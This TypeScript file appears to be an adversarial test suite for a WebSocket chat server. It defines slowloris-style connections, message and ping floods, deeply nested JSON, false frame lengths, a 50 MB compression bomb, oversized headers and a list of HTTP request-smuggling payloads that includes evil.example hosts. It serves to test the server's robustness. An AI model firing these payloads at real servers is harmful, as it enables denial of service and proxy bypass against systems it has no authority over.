/**
 * What somebody may do to a server on the open internet, each for as long as it is let. Nothing here looks at what comes
 * back: whether the server took it well is for who watches it meanwhile.
 */
import { randomBytes } from "node:crypto";
import { deflateRawSync } from "node:zlib";
import { newKey } from "../support/client.ts";
import { frame, opcodes } from "../support/raw-peer.ts";
import {
  crowd,
  drip,
  flood,
  get,
  hello,
  message,
  once,
  pour,
  say,
  upgrade,
  v1,
  type Attack,
} from "./means.ts";
import { moreAttacks } from "./more-attacks.ts";

const { text, continuation, binary, ping, pong } = opcodes;

const frames = (...sent: Buffer[]): string | Buffer => Buffer.concat([Buffer.from(upgrade()), ...sent]);
const bomb = deflateRawSync(Buffer.alloc(50 * 1024 * 1024, "a"), { level: 9 });
const brackets = "[".repeat(32_000) + "]".repeat(32_000);
const deep = `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`;

export const attacks: readonly Attack[] = [
  once("connections that say nothing", 3_000, () => ""),
  once("handshakes without an end", 3_000, () => upgrade().slice(0, -2)),
  {
    name: "headers byte by byte",
    run: (target) =>
      crowd(target, 1_500, (socket) => {
        socket.write("GET / HTTP/1.1\r\nHost: h\r\nX: ");
        drip(socket, () => "a");
      }),
  },
  {
    name: "connections that come and go",
    run: (target) =>
      crowd(target, 100, (socket) => {
        socket.write(Buffer.concat([Buffer.from(upgrade("/r/fray", v1)), hello()]));
        setTimeout(() => socket.destroy(), 20);
      }),
  },
  once("sockets that never say hello", 1_000, () => upgrade("/r/fray", v1)),
  flood("messages without end", 50, message),
  flood("the article's messages without end", 50, () => say({ action: "message", message: "x" }), ""),
  flood("what is no JSON", 50, () => say("{{{{")),
  flood("65 KB of brackets", 20, () => say(brackets)),
  flood("deep JSON", 20, () => say(deep)),
  flood("pings", 50, () => frame(ping, "x".repeat(125))),
  flood("pongs", 50, () => frame(pong, "x".repeat(125))),
  flood("renames", 50, () => say({ action: "rename", name: newKey() })),
  flood("typing", 50, () => say({ action: "typing" })),
  flood("one message again and again", 50, () => say({ action: "message", ref: "same", message: "again" })),
  flood("reactions", 50, () => say({ action: "react", ref: newKey(), target: 1, emoji: "👍", on: true })),
  flood("empty fragments", 50, () => frame(text, "", { fin: false })),
  flood("fragments of nothing", 50, () => frame(continuation, "", { fin: false })),
  once("a length of 2^63 - 1", 100, () => frames(frame(text, "x", { length: 2n ** 63n - 1n }))),
  once("a length of 4 GiB", 100, () => frames(frame(text, "x", { length: 2n ** 32n }))),
  once("64 KiB announced and not sent", 199, () => frames(frame(text, "x", { length: 65_536n }))),
  once("a frame too long", 100, () => frames(frame(text, "x".repeat(70_000)))),
  once("binary frames", 100, () => frames(frame(binary, Buffer.alloc(60_000)))),
  once("a compression bomb", 100, () =>
    Buffer.concat([
      Buffer.from(
        upgrade("/r/fray", "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n"),
      ),
      frame(text, bomb, { rsv: 4 }),
    ]),
  ),
  once("ten thousand headers", 200, () => get("/", "X-A: b\r\n".repeat(10_000))),
  once("a header of a megabyte", 200, () => get("/", `X-A: ${"b".repeat(1_000_000)}\r\n`)),
  once("an address of 100 KB", 200, () => get(`/r/${"a".repeat(100_000)}`)),
  once("requests behind one another", 100, () => get("/r/fray/events").repeat(2_000)),
  {
    name: "histories that nobody reads",
    run: (target) =>
      crowd(target, 1_000, (socket) => void socket.write(get("/r/long/events?limit=500&before=9999999")), {
        isReading: false,
      }),
  },
  {
    name: "exports that nobody reads",
    run: (target) =>
      crowd(target, 200, (socket) => void socket.write(get("/r/long/export")), { isReading: false }),
  },
  {
    name: "pages and searches without end",
    run: (target) =>
      crowd(target, 50, (socket) =>
        pour(socket, () => get("/r/long") + get("/r/long/search?q=a%20b%20c") + get("/r/fray/people?q=a")),
      ),
  },
  {
    name: "members who do not read",
    run: (target) =>
      crowd(
        target,
        100,
        (socket) => {
          socket.write(Buffer.concat([Buffer.from(upgrade("/r/watched", v1)), hello()]));
          pour(socket, () => say({ action: "ping" }));
        },
        { isReading: false },
      ),
  },
  once("uploads without end", 200, () =>
    `POST /r/fray/messages HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: 99999999\r\n\r\n`.concat(
      "[".repeat(200_000),
    ),
  ),
  once("requests of two lengths", 100, () => smuggling.join("")),
  once("bytes that mean nothing", 100, () => randomBytes(20_000)),
  ...moreAttacks,
];

/** Requests that two servers would read differently. */
export const smuggling = [
  "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\nHost: h\r\n\r\n",
  "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
  "POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
  "POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
  "POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
  "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: +4\r\n\r\nabcd",
  "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 0x4\r\n\r\nabcd",
  "GET / HTTP/1.1\r\nHost: h\r\nX: a\r\n folded\r\n\r\n",
  "GET / HTTP/1.1\nHost: h\n\n",
  "GET / HTTP/1.1\r\nHost: h\r\nX: a\rb\r\n\r\n",
  "GET / HTTP/1.1\r\nHost: h\r\nX: a\0b\r\n\r\n",
  "GET / HTTP/1.1\r\n\r\n",
  "GET / HTTP/1.1\r\nHost: h\r\nHost: evil.example\r\n\r\n",
  "GET / HTTP/2.0\r\nHost: h\r\n\r\n",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n",
  "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
];
